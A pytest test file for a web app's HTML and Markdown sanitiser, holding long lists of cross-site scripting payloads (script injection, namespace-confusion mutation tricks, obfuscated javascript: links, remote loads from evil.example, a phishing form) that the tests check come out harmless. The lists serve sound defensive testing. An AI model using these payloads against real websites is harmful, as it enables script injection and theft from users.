"""The one way from people's text to HTML, seen from the attacker's side."""

import re
from collections.abc import Iterator
from concurrent.futures import ThreadPoolExecutor
from xml.etree.ElementTree import Element

import html5lib
import pytest
from hypothesis import given
from hypothesis import strategies as st

from lmp.core import text
from lmp.core.text import TextTooLong, fingerprint, forbidden_markup, normalise, one_line, plain, sanitise, to_html

TAGS = {"a", "blockquote", "br", "code", "em", "h2", "h3", "h4", "hr", "li", "ol", "p", "pre", "strong", "ul"}
TABLE = {"table", "tbody", "td", "th", "thead", "tr"}
ATTRIBUTES = {"a": {"href", "rel"}, "ol": {"start"}, "th": {"class", "scope"}, "td": {"class"}}
GOOD_ADDRESS = re.compile(r"(https?:|mailto:|[^:]*$|[^:]*[/?#])", re.IGNORECASE)

HOSTILE = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    "<img src=`x` onerror=`alert(1)`>",
    "<img/src='x'/onerror=alert(1)//>",
    '<img src="x" onerror="&#97;lert(1)">',
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<svg><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><set attributeName=href to=javascript:alert(1)>",
    "<svg></p><style><a id='</style><img src=1 onerror=alert(1)>'>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    "<math><mi//xlink:href='data:x,<script>alert(1)</script>'>",
    "<math href='javascript:alert(1)'>CLICK</math>",
    "<math><annotation-xml encoding='text/html'><style><img src=x onerror=alert(1)></style></annotation-xml></math>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<textarea><p title='</textarea><img src=x onerror=alert(1)>'>",
    "<title><p title='</title><img src=x onerror=alert(1)>'>",
    "<xmp><p title='</xmp><img src=x onerror=alert(1)>'>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<iframe src=javascript:alert(1)>",
    "<object data=javascript:alert(1)></object>",
    "<embed src=javascript:alert(1)>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>@import '//evil.example/x.css';</style>",
    "<div style='background:url(javascript:alert(1))'>x</div>",
    "<p style='position:fixed;inset:0'>x</p>",
    "<a href='javascript:alert(1)'>x</a>",
    "<a href='JaVaScRiPt:alert(1)'>x</a>",
    "<a href=' javascript:alert(1)'>x</a>",
    "<a href='java\tscript:alert(1)'>x</a>",
    "<a href='java&#10;script:alert(1)'>x</a>",
    "<a href='&#106;avascript:alert(1)'>x</a>",
    "<a href='&#x6A;avascript&colon;alert(1)'>x</a>",
    "<a href='\x01javascript:alert(1)'>x</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "<a href='vbscript:msgbox(1)'>x</a>",
    "<a href='https://ok.example' onmouseover=alert(1) target=_blank>x</a>",
    "<a href='https://ok.example' style='x' class=button id=csrf name=location>x</a>",
    "<form action=//evil.example><input name=p><button>Onayla</button></form>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)>",
    "<body onload=alert(1)>",
    "<table background=javascript:alert(1)><tr><td>x</table>",
    "<td class='align-right evil' scope=col colspan=9>x</td>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<!--[if IE]><script>alert(1)</script><![endif]-->",
    "<![CDATA[<img src=x onerror=alert(1)>]]>",
    "<?xml-stylesheet href='javascript:alert(1)'?>",
    "<template><img src=x onerror=alert(1)></template>",
    "<custom-element onclick=alert(1)>x</custom-element>",
    "<p id=x><p name=getElementById>",
    "\x00<scr\x00ipt>alert(1)</script>",
    "<b><u><i>x",
]
HOSTILE_MARKDOWN = [
    "[x](javascript:alert(1))",
    "[x](JAVASCRIPT:alert(1))",
    "[x](  javascript:alert(1))",
    "[x](java&#115;cript:alert(1))",
    "[x](javascript&colon;alert(1))",
    "[x](<java\tscript:alert(1)>)",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "[x](vbscript:msgbox)",
    "[x](file:///etc/passwd)",
    "[x](//evil.example)",
    "[x](\\\\evil.example)",
    "[x](/\\evil.example)",
    "[x](http:evil.example)",
    "[x](http:///evil.example)",
    "<javascript:alert(1)>",
    "[x][1]\n\n[1]: javascript:alert(1)",
    "![x](javascript:alert(1))",
    "![x](https://evil.example/pixel.png)",
    "[x](https://ok.example 'onmouseover=alert(1)')",
    '[x](https://ok.example/"onmouseover=alert(1)//)',
    "```<script>\nalert(1)\n```",
    "|<img src=x onerror=alert(1)>|\n|-|\n|x|",
]


def elements(html: str) -> Iterator[Element]:
    """Every element a browser would make of a fragment."""
    tree = html5lib.parseFragment(html, namespaceHTMLElements=True)
    yield from (element for element in tree.iter() if isinstance(element.tag, str) and element is not tree)


def assert_harmless(html: str) -> None:
    """Only allowed elements, attributes and addresses, in the HTML namespace."""
    for element in elements(html):
        namespace, _, tag = element.tag.rpartition("}")
        assert namespace == "{http://www.w3.org/1999/xhtml", html
        assert tag in TAGS | TABLE, html
        assert set(element.attrib) <= ATTRIBUTES.get(tag, set()), html
        assert GOOD_ADDRESS.match(element.get("href", "")), html
        assert element.get("class", "align-right") in {"align-right", "align-center"}, html


@pytest.mark.parametrize("snippet", HOSTILE)
def test_hostile_html_comes_out_harmless_when_it_is_sanitised(snippet: str) -> None:
    assert_harmless(sanitise(snippet))


@pytest.mark.parametrize("snippet", HOSTILE)
def test_hostile_html_does_not_change_when_a_browser_reads_it_again(snippet: str) -> None:
    once = sanitise(snippet)
    assert sanitise(once) == once


@pytest.mark.parametrize("snippet", HOSTILE + HOSTILE_MARKDOWN)
def test_hostile_markdown_comes_out_harmless(snippet: str) -> None:
    assert_harmless(to_html(snippet))


@pytest.mark.parametrize("snippet", HOSTILE_MARKDOWN[:14])
def test_a_bad_address_is_no_link(snippet: str) -> None:
    assert not [element for element in elements(to_html(snippet)) if element.tag.endswith("}a")]


@given(st.text(alphabet="<>/\"'= ab&;#x:()[]!*_`|-\n\\" + "ışü\u202e\x00", max_size=80))
def test_whatever_is_typed_comes_out_harmless(typed: str) -> None:
    assert_harmless(to_html(typed))


@pytest.mark.parametrize(
    "address", ["https://ok.example/a", "http://ok.example", "mailto:a@ok.example", "/tr/x", "x/y", "./x", "#a", "?b=1"]
)
def test_good_addresses_are_links_that_tell_nobody_where_they_were(address: str) -> None:
    assert to_html(f"[x]({address})") == f'<p><a href="{address}" rel="noopener noreferrer">x</a></p>\n'


def test_headings_stand_between_h2_and_h4() -> None:
    html = to_html("# a\n\n## b\n\n### c\n\n#### d\n\n###### e")
    assert re.findall(r"<h\d>.</h\d>", html) == ["<h2>a</h2>", "<h2>b</h2>", "<h3>c</h3>", "<h4>d</h4>", "<h4>e</h4>"]


def test_tables_have_scoped_headings_and_classes_in_place_of_styles() -> None:
    html = to_html("| a | b |\n| --- | ---: |\n| 1 | 2 |")
    assert '<th scope="col">a</th>' in html
    assert '<td class="align-right">2</td>' in html
    assert "style" not in html


def test_html_is_shown_as_it_was_typed() -> None:
    assert to_html("a <b>c</b>") == "<p>a &lt;b&gt;c&lt;/b&gt;</p>\n"


def test_a_text_of_ten_megabytes_is_refused_before_anything_reads_it(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(text, "normalise", None)
    with pytest.raises(TextTooLong):
        to_html("x" * 10_000_000)


@pytest.mark.parametrize(
    "typed", ["**" * 14_000 + "a" + "**" * 14_000, "|" + "a|" * 2000 + "\n|" + "-|" * 2000 + "\n" + "|\n" * 20_000]
)
def test_nesting_and_tables_that_nobody_needs_are_shown_as_typed(typed: str) -> None:
    html = to_html(typed)
    assert html.startswith("<pre>")
    assert len(html) < 2 * len(typed)


@pytest.mark.parametrize(
    "typed", ["> " * 20_000 + "a", "- " * 20_000 + "a", "[" * 5_000, "`" * 9_999 + "a", "<" * 9_999]
)
def test_huge_nesting_of_any_kind_is_survived(typed: str) -> None:
    assert_harmless(to_html(typed))


def test_sanitisers_serve_many_threads_at_once() -> None:
    typed = [f"**{number}** <script> [x](https://ok.example/{number})" for number in range(60)]
    with ThreadPoolExecutor(8) as pool:
        assert list(pool.map(to_html, typed)) == [to_html(one) for one in typed]


def test_the_version_of_the_sanitiser_names_its_parts() -> None:
    assert re.fullmatch(r"\d+; markdown-it-py [\d.]+; bleach [\d.]+; nh3 [\d.]+", text.SANITISER)


def test_plain_text_keeps_the_words_only() -> None:
    typed = "## Pano **içi**\n\nBir [bağ](https://x.example) ve `kod`\nburada.\n\n| a | b |\n|-|-|\n| 1 | 2 |\n\n"
    assert plain(typed + "```\nx < y\n```") == "Pano içi\nBir bağ ve kod burada.\na\nb\n1\n2\nx < y"


def test_the_same_text_has_one_spelling() -> None:
    typed = "\ufeff\n\ng\u0306 \t\r\nx\u202e\x07y\u2028z\r  \n\n"
    assert normalise(typed) == "ğ\nxy\nz"
    assert fingerprint(typed) == fingerprint("ğ\nxy\nz")
    assert re.fullmatch(r"[0-9a-f]{12}", fingerprint(""))


def test_the_first_line_keeps_its_indentation() -> None:
    assert normalise("\n    code\n") == "    code"


@given(st.text(max_size=60))
def test_normalising_twice_changes_nothing(typed: str) -> None:
    assert normalise(normalise(typed)) == normalise(typed)
    normalise(typed).encode()


@pytest.mark.parametrize(
    ("typed", "name"),
    [
        ("  Ayşe\u200b  Işık\u00a0Ğ ", "Ayşe Işık Ğ"),
        ("İ\u202eI\u2066ı\x00i\n", "İIıi"),
        ("s\u0327", "ş"),
        ("\ufeff\u3164", ""),
        ("O'Neill-Şen", "O'Neill-Şen"),
    ],
)
def test_names_lose_only_what_cannot_be_seen(typed: str, name: str) -> None:
    assert one_line(typed, 50) == name


def test_a_name_that_is_too_long_is_refused_not_cut() -> None:
    assert one_line("x" * 50, 50) == "x" * 50
    with pytest.raises(TextTooLong):
        one_line("x" * 51, 50)


@pytest.mark.parametrize(
    ("typed", "found"),
    [
        ("a <b>c</b>", "html"),
        ("<div>", "html"),
        ("![x](y.png)", "image"),
        ("3 < 4 and 5 > 2", None),
        ("`<b>` and `![x](y)`", None),
        ("<https://x.example>", None),
    ],
)
def test_authors_learn_about_html_and_pictures_in_markdown(typed: str, found: str | None) -> None:
    assert forbidden_markup(typed) == found
